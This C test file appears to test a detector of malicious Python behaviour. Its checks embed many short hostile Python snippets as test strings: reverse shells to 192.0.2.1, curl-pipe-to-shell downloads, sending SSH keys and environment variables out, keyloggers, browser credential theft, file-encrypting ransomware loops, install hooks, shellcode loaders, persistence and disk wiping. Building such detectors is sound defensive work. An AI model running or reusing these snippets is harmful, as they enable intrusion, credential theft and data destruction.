// SPDX-License-Identifier: GPL-2.0-or-later
/* What programs do: inert programs that must show a behaviour. */
#include "folding.h"

#include "../test.h"

static void executes(void)
{
	CHECK(shows("import base64\nexec(base64.b64decode('cGFzcw=='))",
		    MPY_BEH_DECODE_EXEC, 2));
	CHECK(shows("import base64\nexec(base64.b64decode(x))",
		    MPY_BEH_DECODE_EXEC, 2));
	CHECK(shows("import base64 as b\ne = exec\nd = b.b64decode(x)\n\ne(d)",
		    MPY_BEH_DECODE_EXEC, 5));
	CHECK(shows("import zlib\nexec(zlib.decompress(x))",
		    MPY_BEH_UNPACK_EXEC, 2));
	CHECK(shows("import marshal\nexec(marshal.loads(x))",
		    MPY_BEH_MARSHAL_EXEC, 2));
	CHECK(shows("import requests\nr = requests.get(u)\nexec(r.text)",
		    MPY_BEH_NETWORK_EXEC, 3));
	CHECK(shows("from urllib.request import urlopen as o\n"
		    "def f(u):\n  return o(u).read()\nexec(f('x'))",
		    MPY_BEH_NETWORK_EXEC, 4));
	/* what a function does with its argument happens at the call */
	CHECK(shows("import requests\ndef run(code):\n  exec(code)\n"
		    "run(requests.get('x').text)", MPY_BEH_NETWORK_EXEC, 4));
	CHECK(shows("import socket\ns = socket.socket()\nd = s.recv(99)\n"
		    "exec(d)", MPY_BEH_RECV_EXEC, 4));
	CHECK(shows("try:\n d = requests.get(u).text\nexcept Exception:\n"
		    " d = ''\nexec(d)", MPY_BEH_NETWORK_EXEC, 5));
	CHECK(shows("d = requests.get(u).text\nexec(d if d else 'pass')",
		    MPY_BEH_NETWORK_EXEC, 2));
	CHECK(shows("d = requests.get(u).text\nexec('pass' if x else d)",
		    MPY_BEH_NETWORK_EXEC, 2));
	CHECK(shows("getattr(__import__('os'), 'sys' + 'tem')('id')",
		    MPY_BEH_HIDDEN_NAME, 1));
	CHECK(shows("__import__('o' + 's').getcwd()", MPY_BEH_HIDDEN_IMPORT,
		    1));
	CHECK(shows("(lambda f: f('pass'))(exec)", MPY_BEH_PLAIN_EXEC, 0));
	CHECK(shows("import os\nclass P:\n  def __reduce__(self):\n"
		    "    return os.system, ('id',)", MPY_BEH_PICKLE_COMMAND,
		    4));
}

static void starts(void)
{
	CHECK(shows("import urllib.request as u, os\n"
		    "u.urlretrieve('http://192.0.2.1/a', p)\nos.system(p)",
		    MPY_BEH_DOWNLOAD_START, 3));
	CHECK(shows("from ctypes import windll\nu = windll.urlmon\n"
		    "u.URLDownloadToFileW(0, 'http://192.0.2.1/b', p, 0, 0)\n"
		    "windll.shell32.ShellExecuteW(0, 'open', p, 0, 0, 1)",
		    MPY_BEH_DOWNLOAD_START, 4));
	CHECK(shows("import requests, subprocess\n"
		    "with open(p, 'wb') as f:\n"
		    "  f.write(requests.get(u).content)\n"
		    "subprocess.Popen([p])", MPY_BEH_DOWNLOAD_START, 4));
	CHECK(shows("import os\nos.system('curl http://192.0.2.1/a | sh')",
		    MPY_BEH_SHELL_PIPE, 2));
	CHECK(shows("import os\nc = 'cu' + 'rl 192.0.2.1 ' + '| ba' + 'sh'\n"
		    "os.system(c)", MPY_BEH_SHELL_PIPE, 3));
	CHECK(shows("import subprocess\nsubprocess.run('powershell -w hidden "
		    "-enc AAAA')", MPY_BEH_POWERSHELL_HIDDEN, 2));
	CHECK(shows("import subprocess as s\ns.Popen(c, creationflags="
		    "s.CREATE_NO_WINDOW)", MPY_BEH_HIDDEN_WINDOW, 2));
	CHECK(shows("import os\nf = os.memfd_create('x')\n"
		    "os.write(f, b'data')\n"
		    "os.execv('/proc/self/fd/%d' % f, ['x'])",
		    MPY_BEH_MEMFD_START, 4));
	CHECK(shows("import sys, subprocess\nsubprocess.Popen([sys.executable,"
		    " '-c', 'pass'])", MPY_BEH_PYTHON_C, 2));
}

static void controls(void)
{
	CHECK(shows("import socket, os, pty\ns = socket.socket()\n"
		    "s.connect(('192.0.2.1', 4444))\n"
		    "[os.dup2(s.fileno(), i) for i in (0, 1, 2)]\n"
		    "pty.spawn('/bin/sh')", MPY_BEH_REVERSE_SHELL, 5));
	CHECK(shows("import socket, os, subprocess\ns = socket.socket()\n"
		    "s.connect((h, p))\nos.dup2(s.fileno(), 0)\n"
		    "subprocess.call(['/bin/sh', '-i'])",
		    MPY_BEH_REVERSE_SHELL, 5));
	CHECK(shows("import socket, subprocess\ns = socket.socket()\n"
		    "while 1:\n  c = s.recv(1024).decode()\n"
		    "  p = subprocess.Popen(c, shell=True, stdout=-1)\n"
		    "  s.send(p.communicate()[0])", MPY_BEH_RECV_RUN, 5));
	CHECK(shows("import socket, subprocess\ns = socket.socket()\n"
		    "s.send(subprocess.check_output('id'))",
		    MPY_BEH_OUTPUT_SEND, 3));
	CHECK(shows("import os\nos.system('bash -i >& /dev/tcp/192.0.2.1/4 "
		    "0>&1')", MPY_BEH_SHELL_REVERSE, 2));
}

static void steals(void)
{
	CHECK(shows("import os, requests\nd = open(os.path.expanduser("
		    "'~/.ssh/id_rsa')).read()\nrequests.post(u, data=d)",
		    MPY_BEH_SECRET_SEND, 3));
	CHECK(shows("import os, requests\nrequests.post('http://192.0.2.1', "
		    "json=dict(os.environ))", MPY_BEH_ENV_SEND, 2));
	CHECK(shows("import platform, socket, requests\nd = {'h': "
		    "socket.gethostname()}\nrequests.get(u, params=d)",
		    MPY_BEH_HOST_SEND, 3));
	CHECK(shows("import glob, sys\nwith open(sys.argv[0]) as f:\n"
		    "  own = f.readlines()\nfor n in glob.glob('*.py'):\n"
		    "  with open(n) as f:\n    old = f.readlines()\n"
		    "  with open(n, 'w') as f:\n    f.writelines(own + old)",
		    MPY_BEH_INFECT, 8));
	CHECK(shows("import requests\ns = open('/root/.ssh/id_rsa').read()\n"
		    "requests.post(u, cookies={'a': s})",
		    MPY_BEH_SECRET_SEND, 3));
	/* asking for one's address sends nothing, sending the answer does; */
	CHECK(lacks("import requests\nrequests.get('https://ident.me')",
		    MPY_BEH_ADDRESS_SEND));
	CHECK(shows("import requests\na = requests.get('https://ident.me')\n"
		    "requests.post(u, data=a.text)", MPY_BEH_ADDRESS_SEND, 3));
	/* beside who is logged in it is more */
	CHECK(shows("import getpass, requests\nu = getpass.getuser()\n"
		    "a = requests.get('https://ident.me')\n"
		    "requests.post(x, data=[u, a.text])", MPY_BEH_HOST_SEND,
		    4));
	CHECK(shows("import requests\nw = 'https://discord.com/api/webhooks/"
		    "1/x'\nrequests.post(w, json=d)", MPY_BEH_WEBHOOK_SEND,
		    3));
	CHECK(shows("import pyautogui, requests\ni = pyautogui.screenshot()\n"
		    "requests.post(u, files={'f': i})",
		    MPY_BEH_SCREENSHOT_SEND, 3));
	CHECK(shows("from pynput import keyboard\ndef press(key):\n"
		    "  open('log', 'a').write(str(key))\n"
		    "keyboard.Listener(on_press=press).start()",
		    MPY_BEH_KEYLOG_SEND, 3));
	CHECK(shows("p = base + '\\\\Google\\\\Chrome\\\\User Data'",
		    MPY_BEH_BROWSER_DATA, 1));
	CHECK(shows("p = base + '\\\\Default\\\\Login Data'",
		    MPY_BEH_BROWSER_THEFT, 1));
	CHECK(shows("import browser_cookie3\nj = browser_cookie3.chrome()",
		    MPY_BEH_BROWSER_COOKIES, 2));
	CHECK(shows("import win32crypt\n"
		    "k = win32crypt.CryptUnprotectData(b)[1]", MPY_BEH_DPAPI,
		    2));
}

/* What is collected before it is sent is known to be in there. */
static void collects(void)
{
	static const char *const bodies[] = {
		"x = []\nx.append(get(k))",
		"x = []\nx.extend([get(k)])",
		"x = {}\nx['key'] = get(k)",
		"x = {}\nfor k in ('.ssh/id_rsa', '.netrc'):\n"
		"  x[k] = get(k)",
		"x = {}\nx.update(key=get(k))",
		"x = []\nx.insert(0, get(k))",
		"def all():\n  out = []\n  for k in ('.ssh/id_rsa', '.x'):\n"
		"    out.append(get(k))\n  return out\nx = all()",
		"def all():\n  for k in ('.ssh/id_rsa', '.netrc'):\n"
		"    yield get(k)\nx = list(all())",
		"class A:\n  def __init__(self):\n    self.d = []\n"
		"  def grab(self):\n    self.d.append(get(k))\n"
		"  def send(self):\n    requests.post(u, json=self.d)\nx = 1",
	};
	char text[1024];

	for (size_t i = 0; i < sizeof(bodies) / sizeof(bodies[0]); i++) {
		snprintf(text, sizeof(text),
			 "import os, requests\ndef get(n):\n"
			 "  p = os.path.join(os.path.expanduser('~'), n)\n"
			 "  return open(p).read()\nk = '.ssh/id_rsa'\n%s\n"
			 "requests.post(u, json={'all': x})",
			 bodies[i]);
		CHECK(shows(text, MPY_BEH_SECRET_SEND, 0));
	}
	CHECK(shows("import os, requests\nx = {}\n"
		    "for k, v in os.environ.items():\n  x[k] = v\n"
		    "requests.post(u, json=x)", MPY_BEH_ENV_SEND, 5));
	/* another list is not that list, nor is a digest what it is of */
	CHECK(is_ordinary("import requests\nx = []\ny = []\n"
			  "x.append(open('/root/.ssh/id_rsa').read())\n"
			  "y[len(y)] = 1\ny.append(2)\n"
			  "requests.post(u, json=y)"));
	CHECK(is_ordinary("import hashlib, requests\nh = hashlib.sha256()\n"
			  "h.update(open('/root/.ssh/id_rsa').read())\n"
			  "requests.post(u, json=h.hexdigest())"));
}

static void stays_and_harms(void)
{
	CHECK(shows("import os\nos.system('(crontab -l; echo x) | crontab -')",
		    MPY_BEH_PERSIST_CRON, 2));
	CHECK(shows("open('/root/.bashrc', 'a').write('x')",
		    MPY_BEH_PERSIST_PROFILE, 1));
	CHECK(shows("import winreg\nk = winreg.OpenKey(h, r'Software\\"
		    "Microsoft\\Windows\\CurrentVersion\\Run')",
		    MPY_BEH_PERSIST_REGISTRY, 2));
	CHECK(shows("from setuptools import setup\n"
		    "from setuptools.command.install import install\n"
		    "import os\nclass I(install):\n  def run(self):\n"
		    "    os.system('id')\nsetup(cmdclass={'install': I})",
		    MPY_BEH_INSTALL_HOOK, 6));
	static const char *const builds[] = {
		"os.system('make && ./x')", "os.system('make CC=$(id)')",
		"os.system('make -C /tmp/x')", "os.system('make SHELL=/x')",
		"os.system('cp x ~/.bashrc')", "os.system('npm install x')",
		"call(['npx', '-y', 'x'])", "call(['/tmp/.x/make'])",
		"call(['go', 'run', 'x.invalid/x@latest'])",
		"call(['git', 'clone', 'https://198.51.100.7/x'])",
		"call('make', executable='/bin/sh')", "call([x, 'make'])",
	};
	char text[256];

	for (size_t i = 0; i < sizeof(builds) / sizeof(builds[0]); i++) {
		snprintf(text, sizeof(text),
			 "from setuptools.command.install import install\n"
			 "from subprocess import call; import os\n"
			 "class I(install):\n  def run(self):\n    %s\n",
			 builds[i]);
		CHECK(shows(text, MPY_BEH_INSTALL_HOOK, 5));
	}
	CHECK(shows("import ctypes\nk = ctypes.windll.kernel32\n"
		    "p = k.VirtualAlloc(0, n, 0x3000, 0x40)\n"
		    "k.RtlMoveMemory(p, b, n)\nk.CreateThread(0, 0, p, 0)",
		    MPY_BEH_SHELLCODE, 4));
	CHECK(shows("import os\nfrom cryptography.fernet import Fernet\n"
		    "c = Fernet(k)\nfor r, d, n in os.walk('/home'):\n"
		    "  for x in n:\n    p = os.path.join(r, x)\n"
		    "    e = c.encrypt(open(p, 'rb').read())\n"
		    "    open(p, 'wb').write(e)", MPY_BEH_ENCRYPT_FILES, 8));
	CHECK(shows("import os\nos.remove(__file__)", MPY_BEH_SELF_DELETE, 2));
	CHECK(shows("x = 'stratum+tcp://pool.example.invalid:1'",
		    MPY_BEH_MINER, 1));
}

/* Files that are found are encrypted: here, or by who is given their names. */
static void encrypts(void)
{
	static const char head[] = "import os, glob, pyAesCrypt\n"
				   "from pathlib import Path\n"
				   "from cryptography.fernet import Fernet\n"
				   "c = Fernet(k)\n"
				   "def lock(p):\n  e = c.encrypt(open(p, "
				   "'rb').read())\n"
				   "  with open(p + '.locked', 'wb') as h:\n"
				   "    h.write(e)\n  os.remove(p)\n"
				   "def each(names):\n  for x in names:\n"
				   "    lock(x)\n";
	static const char *const found[] = {
		"for r, d, n in os.walk('/home'):\n"
		"  for x in n: lock(os.path.join(r, x))\n",
		"each(glob.glob('/home/*/*'))\n",
		"for p in Path.home().rglob('*'): lock(p)\n",
		"for p in Path(x).iterdir():\n"
		"  p.write_bytes(c.encrypt(p.read_bytes()))\n",
		"for x in os.listdir(d):\n"
		"  pyAesCrypt.encryptFile(x, x + '.aes', k, 65536)\n",
		"for x in os.listdir(d):\n  b = open(x, 'rb').read()\n"
		"  open(x, 'wb').write(bytes([y ^ 7 for y in b]))\n",
	};
	static const char *const ordinary[] = {
		"lock(input())\n",
		"for x in os.listdir(d): print(x)\nlock('backup.tar')\n",
		"for x in os.listdir(d):\n"
		"  h = h ^ 7\n  open(x, 'wb').write(b'')\n",
	};
	char text[1024];

	for (size_t i = 0; i < sizeof(found) / sizeof(found[0]); i++) {
		snprintf(text, sizeof(text), "%s%s", head, found[i]);
		CHECK(shows(text, MPY_BEH_ENCRYPT_FILES, 0));
	}
	for (size_t i = 0; i < sizeof(ordinary) / sizeof(ordinary[0]); i++) {
		snprintf(text, sizeof(text), "%s%s", head, ordinary[i]);
		CHECK(lacks(text, MPY_BEH_ENCRYPT_FILES));
	}
}

/* A function that is handed over with its arguments is as good as called. */
static void handed_over(void)
{
	CHECK(shows("import threading, urllib.request as u\n"
		    "c = u.urlopen(x).read()\n"
		    "threading.Thread(target=exec, args=(c,)).start()",
		    MPY_BEH_NETWORK_EXEC, 3));
	CHECK(shows("import functools, urllib.request as u\n"
		    "functools.partial(exec, u.urlopen(x).read())()",
		    MPY_BEH_NETWORK_EXEC, 2));
	CHECK(shows("import os\nd = s.recv(99)\npool.submit(os.system, d)",
		    MPY_BEH_RECV_RUN, 3));
	CHECK(shows("import requests, threading\ndef f(a):\n"
		    "  requests.post(u, data=a)\n"
		    "k = open('/home/u/.ssh/id_rsa').read()\n"
		    "threading.Timer(9, f, [k]).start()",
		    MPY_BEH_SECRET_SEND, 5));
	CHECK(shows("import urllib.request as u\nc = u.urlopen(x).read()\n"
		    "_thread.start_new_thread(print, ())\n"
		    "pool.submit(exec, c)", MPY_BEH_NETWORK_EXEC, 4));
	CHECK(shows("from threading import Thread\nimport urllib.request as u\n"
		    "c = u.urlopen(x).read()\na = []\na.insert(0, c)\n"
		    "Thread(None, exec, 'n', a, daemon=lambda: 0)",
		    MPY_BEH_NETWORK_EXEC, 6));
	CHECK(shows("import requests\nk = open('/root/.ssh/id_rsa').read()\n"
		    "pool.submit(requests.post, u, data=k)",
		    MPY_BEH_SECRET_SEND, 3));
	CHECK(shows("import requests\n"
		    "exec(pool.submit(requests.get, u).result().text)",
		    MPY_BEH_NETWORK_EXEC, 2));
	CHECK(shows("import functools, subprocess, sys\n"
		    "functools.partial(subprocess.run, "
		    "[sys.executable, '-c', 'import os'])()",
		    MPY_BEH_PYTHON_C, 2));
	CHECK(is_ordinary("import threading, os, requests\n"
			  "threading.Thread(target=exec)\n"
			  "setattr(up, os.environ, 1)\nprint(os.system, r)\n"
			  "r = requests.get(u).text\n"
			  "log.debug('%r', os.system, r)\n"
			  "self.assertEqual(os.system, r)"));
}

/* f(*list): what the list holds, and what is known of the list alone. */
static void spread(void)
{
	CHECK(shows("import urllib.request as u\nc = u.urlopen(x).read()\n"
		    "exec(*[], c)", MPY_BEH_NETWORK_EXEC, 3));
	CHECK(shows("import urllib.request as u\nc = u.urlopen(x).read()\n"
		    "a = []\na.insert(0, c)\nexec(*a)", MPY_BEH_NETWORK_EXEC,
		    5));
	CHECK(shows("import urllib.request as u\nc = u.urlopen(x).read()\n"
		    "a = ['']\na[0] = c\nexec(*a)", MPY_BEH_NETWORK_EXEC, 5));
	CHECK(shows("import subprocess, sys\n"
		    "subprocess.run(*[[sys.executable, '-c', 'x = 1']])",
		    MPY_BEH_PYTHON_C, 2));
}

/* Called above the place where it is defined. */
static void called_early(void)
{
	CHECK(shows("import os\nclass A:\n  def run(self, s):\n"
		    "    self.do('x', s.recv(99))\n"
		    "  def do(self, to, arg):\n    os.system(arg)",
		    MPY_BEH_RECV_RUN, 6));
	CHECK(shows("import requests\ndef main():\n"
		    "  go(requests.get(u).text)\ndef go(code):\n"
		    "  exec(code)\nmain()", MPY_BEH_NETWORK_EXEC, 5));
	/* the other argument, a keyword, another method */
	CHECK(is_ordinary("import os\nclass A:\n  def run(self, s):\n"
			  "    self.do(s.recv(99), 'x')\n"
			  "    self.do(arg=s.recv(99))\n"
			  "    self.did('x', s.recv(99))\n"
			  "  def do(self, to, arg):\n    os.system(arg)"));
	/* another class, a function in another one */
	CHECK(is_ordinary("import requests, subprocess\nclass A:\n"
			  "  def go(self):\n    self.run(requests.get(u).json())\n"
			  "  def run(self, x):\n    print(x)\nclass B:\n"
			  "  def run(self, cmd):\n    subprocess.run(cmd)"));
	CHECK(is_ordinary("import requests, subprocess\ndef a():\n"
			  "  show(requests.get(u).text)\ndef b():\n"
			  "  def show(cmd):\n    subprocess.run(cmd)\n"
			  "  show(['true'])"));
}

/* Connections that are read and written as files. */
static void as_files(void)
{
	CHECK(shows("import socket, code, sys\n"
		    "f = socket.create_connection(a).makefile('rw')\n"
		    "sys.stdin = sys.stdout = sys.stderr = f\n"
		    "code.interact()", MPY_BEH_REVERSE_SHELL, 4));
	CHECK(is_ordinary("import socket, code\n"
			  "s = socket.create_connection(a)\n"
			  "code.interact(local=locals())"));
	CHECK(shows("import asyncio, subprocess\nasync def f(a):\n"
		    "  r, w = await asyncio.open_connection(a, 1)\n"
		    "  w.write(subprocess.getoutput('id').encode())",
		    MPY_BEH_OUTPUT_SEND, 4));
	CHECK(shows("import subprocess, socketserver\n"
		    "class H(socketserver.StreamRequestHandler):\n"
		    "  def handle(self):\n    for l in self.rfile:\n"
		    "      subprocess.run(l, shell=True)", MPY_BEH_RECV_RUN,
		    5));
	CHECK(shows("from pathlib import Path\n"
		    "f = Path('/root') / '.ssh' / 'authorized_keys'\n"
		    "with f.open('a') as h:\n  h.write(k)",
		    MPY_BEH_PERSIST_KEYS, 3));
	CHECK(is_ordinary("from pathlib import Path\n"
			  "f = Path('/root') / '.ssh' / 'authorized_keys'\n"
			  "with f.open() as h:\n  print(h.read())"));
	CHECK(shows("from pathlib import Path\n"
		    "Path('/home/u/.config/autostart/x').write_text(t)",
		    MPY_BEH_PERSIST_STARTUP, 2));
}

static void told_by_tables(void)
{
	CHECK(shows("import os, shutil\nshutil.copy('/bin/sh', p)\n"
		    "os.chmod(p, 0o4755)", MPY_BEH_SET_UID, 3));
	CHECK(shows("import os, stat\n"
		    "os.chmod(p, os.stat(p).st_mode | stat.S_ISUID)",
		    MPY_BEH_SET_UID, 2));
	CHECK(lacks("import os, stat\n"
		    "m = os.stat(p).st_mode\nif m & stat.S_ISUID:\n"
		    "  os.chmod(p, m & ~(stat.S_ISUID | stat.S_ISGID))",
		    MPY_BEH_SET_UID));
	CHECK(shows("open('\\\\\\\\.\\\\PhysicalDrive0', 'wb').write(z)",
		    MPY_BEH_DESTROY, 1));
	CHECK(lacks("import shutil\n"
		    "shutil.copy('\\\\\\\\.\\\\PhysicalDrive0', 'x.img')",
		    MPY_BEH_DESTROY));
	CHECK(lacks("perl = ['perl', '-ne', 'print if eval($_)']",
		    MPY_BEH_WEB_SHELL));
	CHECK(shows("open(p, 'w').write('<?php system($_GET[\"c\"]); ?>')",
		    MPY_BEH_WEB_SHELL, 1));
	CHECK(is_ordinary("import os\nos.chmod(p, 0o755)"));
	CHECK(shows("open('/etc/passwd', 'a').write(l)", MPY_BEH_PERSIST_KEYS,
		    1));
	CHECK(is_ordinary("print(open('/etc/passwd').read())"));
	CHECK(lacks("print(open('/etc/passwd').read())", MPY_BEH_SECRET_READ));
	CHECK(shows("import requests\nd = open('/etc/passwd').read()\n"
		    "requests.post(u, data=d)", MPY_BEH_SECRET_SEND, 3));
	CHECK(lacks("import os\nos.system('useradd -m bob')",
		    MPY_BEH_PERSIST_KEYS));
	CHECK(shows("import os\nos.system('useradd -ou 0 bob')",
		    MPY_BEH_PERSIST_KEYS, 2));
	CHECK(shows("import pyperclip, requests\n"
		    "requests.post(u, data=pyperclip.paste())",
		    MPY_BEH_CLIPBOARD_SEND, 2));
	CHECK(is_ordinary("import pyperclip, requests\n"
			  "requests.get(pyperclip.paste())"));
	CHECK(is_ordinary("import platform, requests\nrequests.get(u, "
			  "headers={'User-Agent': platform.system()})"));
	CHECK(is_ordinary("import natsort, subprocess\n"
			  "def commit(repo, message):\n"
			  "  subprocess.run(['git', 'commit', '-m', message])"));
	CHECK(is_ordinary("open('/home/u/.bash_history', 'a').write(x)"));
	CHECK(is_ordinary("def on_press(event):\n"
			  "  open('p.csv', 'a').write(str(event.x))"));
	CHECK(shows("import io, requests\n"
		    "i = Image.open(io.BytesIO(requests.get(u).content))\n"
		    "exec(i.text)", MPY_BEH_NETWORK_EXEC, 3));
	CHECK(shows("import pyperclip, urllib.request as u\n"
		    "u.urlopen(a, pyperclip.paste().encode())",
		    MPY_BEH_CLIPBOARD_SEND, 2));
	CHECK(shows("import os\nos.system('wget http://192.0.2.1/x; "
		    "chmod +x x; ./x')", MPY_BEH_SHELL_PIPE, 2));
	CHECK(shows("t = 'ExecStart=sh -c \"curl http://192.0.2.1/x | sh\"'",
		    MPY_BEH_SHELL_TEXT, 1));
	CHECK(shows("from pytransform import pyarmor_runtime\n"
		    "pyarmor_runtime()", MPY_BEH_PROTECTED, 2));
	CHECK(shows("import ctypes, mmap\n"
		    "m = mmap.mmap(-1, n, prot=mmap.PROT_READ | "
		    "mmap.PROT_EXEC)\nm.write(b)\n"
		    "ctypes.CFUNCTYPE(None)(a)()", MPY_BEH_SHELLCODE, 4));
	CHECK(is_ordinary("import ctypes, mmap\n"
			  "m = mmap.mmap(f.fileno(), 0)\n"
			  "ctypes.CFUNCTYPE(None)(a)()"));
	CHECK(shows("import ctypes\nc = ctypes.CDLL(None)\n"
		    "c.mmap.restype = ctypes.c_void_p\n"
		    "p = c.mmap(None, 9, 7, 34, -1, 0)\n"
		    "ctypes.memmove(p, b, 9)", MPY_BEH_SHELLCODE, 5));
	CHECK(shows("import redis\nr = redis.Redis()\nexec(r.get('job'))",
		    MPY_BEH_NETWORK_EXEC, 3));
	CHECK(shows("import os, paho.mqtt.client as m\n"
		    "def on_message(c, u, msg):\n  os.system(msg.payload)",
		    MPY_BEH_RECV_RUN, 3));
	CHECK(shows("f = open('/dev/input/event2', 'rb')\n"
		    "s.sendto(f.read(24), a)", MPY_BEH_KEYLOG_SEND, 2));
	CHECK(shows("def on_press(key):\n  with open(p, 'a') as f:\n"
		    "    f.write(str(key))", MPY_BEH_KEYLOG_SEND, 3));
	CHECK(is_ordinary("class A(Button):\n  def on_press(self):\n"
			  "    with open(p, 'a') as f:\n"
			  "      f.write(str(self))"));
	CHECK(shows("from win32com.shell import shell, shellcon as s\n"
		    "p = shell.SHGetFolderPath(0, s.CSIDL_STARTUP, 0, 0)\n"
		    "k = w.CreateShortCut(p + '/x.lnk')",
		    MPY_BEH_PERSIST_STARTUP, 3));
	CHECK(shows("open('/root/.bash_history', 'w').close()",
		    MPY_BEH_LOG_WIPE, 1));
}

/* What ordinary programs were mistaken for (test_ordinary.c), as it is. */
static void but_seen(void)
{
	CHECK(shows("x = ['dnspy', 'x64dbg']", MPY_BEH_ANTI_ANALYSIS, 1));
	CHECK(shows("q = 'select password_value from logins'",
		    MPY_BEH_BROWSER_THEFT, 1));
	CHECK(shows("import os\nos.system('rm -rf / ')", MPY_BEH_DESTROY_ALL,
		    2));
	CHECK(shows("import shutil\nfor d in ('/srv', '/home'):\n"
		    "  shutil.rmtree(d)", MPY_BEH_DESTROY, 3));
	CHECK(shows("import os\nfor r, d, n in os.walk(top):\n"
		    "  for i in n:\n"
		    "    with open(os.path.join(r, i), 'r+b') as f:\n"
		    "      f.write(os.urandom(4096))", MPY_BEH_DESTROY, 5));
	CHECK(is_ordinary("import shutil\nshutil.rmtree('/srv/www/build')"));
	CHECK(shows("import os\nos.system('systemctl stop mpyd')",
		    MPY_BEH_DEFENCE_OFF, 2));
	CHECK(shows("import os\nos.system('rm -rf ~/*')", MPY_BEH_DESTROY_ALL,
		    2));
	CHECK(shows("import os\nos.remove('c:\\\\windows\\\\system32\\\\cmd.exe')",
		    MPY_BEH_DESTROY, 2));
	CHECK(shows("import shutil\nshutil.rmtree('C:\\\\Windows\\\\System32')",
		    MPY_BEH_DESTROY_ALL, 2));
	CHECK(is_ordinary("import os\nos.remove('C:\\\\Windows\\\\System32\\\\"
			  "spool\\\\PRINTERS\\\\1.SPL')"));
	CHECK(is_ordinary("import os\n"
			  "os.remove('C:\\\\Windows\\\\System32Backup\\\\x')"));
	CHECK(shows("import os, shutil\nshutil.rmtree(os.path.expanduser('~'))",
		    MPY_BEH_DESTROY_ALL, 2));
	CHECK(shows("from pathlib import Path\nimport shutil\n"
		    "shutil.rmtree(Path.home())", MPY_BEH_DESTROY_ALL, 3));
	CHECK(lacks("import os, shutil\n"
		    "shutil.rmtree(os.path.expanduser('~/.cache/x'))",
		    MPY_BEH_DESTROY_ALL));
	CHECK(lacks("from pathlib import Path\nimport shutil\n"
		    "shutil.rmtree(Path.home() / '.cache')",
		    MPY_BEH_DESTROY_ALL));
	CHECK(shows("import os\nos.remove('C:/Windows/System32/x.exe')",
		    MPY_BEH_DESTROY, 2));
	CHECK(lacks("import os\nos.system('pip install -i "
		    "https://x.invalid/simple a; rm -rf *')",
		    MPY_BEH_DESTROY_ALL));
	CHECK(is_ordinary("import shutil\n"
			  "shutil.rmtree('C:\\\\Windows\\\\Temp\\\\x')"));
	CHECK(shows("import os\nos.system('dd if=/dev/zero of=/dev/sda')",
		    MPY_BEH_DESTROY, 2));
	CHECK(shows("open('/dev/nvme0n1', 'wb').write(z)", MPY_BEH_DESTROY, 1));
	CHECK(shows("import socket\n"
		    "socket.gethostbyname(socket.gethostname() + '.x.invalid')",
		    MPY_BEH_DNS_SEND, 2));
	CHECK(shows("import socket\nh = socket.gethostname()\n"
		    "socket.gethostbyname(f'{h}.x.invalid')",
		    MPY_BEH_DNS_SEND, 3));
	CHECK(shows("import socket\nh = socket.gethostname()\n"
		    "socket.gethostbyname('%s.x.invalid' % h)",
		    MPY_BEH_DNS_SEND, 3));
	CHECK(shows("import socket\nh = socket.gethostname()\n"
		    "socket.gethostbyname('{}.x.invalid'.format(h))",
		    MPY_BEH_DNS_SEND, 3));
	CHECK(shows("import socket\nh = socket.gethostname()\n"
		    "socket.gethostbyname('.'.join([h, 'x.invalid']))",
		    MPY_BEH_DNS_SEND, 3));
	CHECK(shows("import shutil\nshutil.copy(__file__, d)",
		    MPY_BEH_SELF_COPY, 2));
	CHECK(shows("m = __import__('o' + 's')", MPY_BEH_HIDDEN_IMPORT, 1));
	CHECK(shows("import socket, subprocess\ns = socket.socket()\n"
		    "subprocess.Popen(['/bin/sh'], stdin=s, stdout=s)",
		    MPY_BEH_REVERSE_SHELL, 3));
	CHECK(shows("import socket, subprocess\ns = socket.socket()\n"
		    "subprocess.Popen('sh', 0, None, s, s, s)",
		    MPY_BEH_REVERSE_SHELL, 3));
	CHECK(shows("import requests, subprocess\nc = requests.get(u).text\n"
		    "subprocess.run(['sh', '-c', c])", MPY_BEH_NETWORK_RUN, 3));
	CHECK(shows("from flask import request\nimport os\n"
		    "os.popen(request.headers.get('X-C')).read()",
		    MPY_BEH_WEB_COMMAND, 3));
	CHECK(shows("import os\ndef app(environ, start):\n"
		    "  eval(environ.get('HTTP_X_KEY'))",
		    MPY_BEH_WEB_COMMAND, 3));
	CHECK(shows("from django.http import HttpResponse\nimport os\n"
		    "def view(request):\n  os.system(request.GET['c'])",
		    MPY_BEH_WEB_COMMAND, 4));
	CHECK(shows("open('/sys/fs/cgroup/x/release_agent', 'w')",
		    MPY_BEH_ESCAPE, 1));
	CHECK(shows("from scapy.all import sniff\nsniff(prn=f)",
		    MPY_BEH_SNIFF, 2));
	CHECK(shows("import os\nos.system('pip install -i http://x.invalid y')",
		    MPY_BEH_PIP_INDEX, 2));
	CHECK(shows("import subprocess, sys\nsubprocess.run([sys.executable, "
		    "'-m', 'pip', 'install', '--index-url', u, 'y'])",
		    MPY_BEH_PIP_INDEX, 2));
	CHECK(shows("exec(''.join(chr(ord(c) ^ k) for c in f()))",
		    MPY_BEH_MADE_EXEC, 1));
	CHECK(shows("b = bytes(x % 251 for x in g())\nexec(b.decode())",
		    MPY_BEH_MADE_EXEC, 2));
	CHECK(shows("import nextcord, os\nasync def on_message(msg):\n"
		    "  os.popen(msg.content)", MPY_BEH_CHAT_CONTROL, 3));
	CHECK(shows("import slack_sdk, subprocess\nc = slack_sdk.WebClient(t)\n"
		    "for m in c.conversations_history(channel=h)['messages']:\n"
		    "  subprocess.getoutput(m['text'])",
		    MPY_BEH_CHAT_CONTROL, 4));
	/* what the decorator says, whatever the parameter is called */
	CHECK(shows("import telebot, os\nb = telebot.TeleBot(t)\n"
		    "@b.message_handler(commands=['x'])\ndef f(q):\n"
		    "  os.popen(q.text)", MPY_BEH_CHAT_CONTROL, 5));
	CHECK(shows("import discord, os\n@bot.command()\n@owner()\n"
		    "async def f(c, *, line):\n  os.popen(line)",
		    MPY_BEH_CHAT_CONTROL, 5));
	CHECK(lacks("import telegram, click, os\n@click.command()\n"
		    "def f(line):\n  os.popen(line)", MPY_BEH_CHAT_CONTROL));
	CHECK(lacks("import telebot, os\nb = telebot.TeleBot(t)\n"
		    "@b.message_handler()\ndef f(q):\n  pass\n"
		    "def g(q):\n  os.popen(q)", MPY_BEH_CHAT_CONTROL));
}

static void names_are_complete(void)
{
	for (int i = 0; i < MPY_BEH_COUNT; i++) {
		const struct mpy_behaviour_name *a, *b;

		a = mpy_behaviour_name((enum mpy_behaviour)i);
		CHECK(a->slug && a->sentence && a->strength <= 3);
		for (int k = 0; k < i; k++) {
			b = mpy_behaviour_name((enum mpy_behaviour)k);
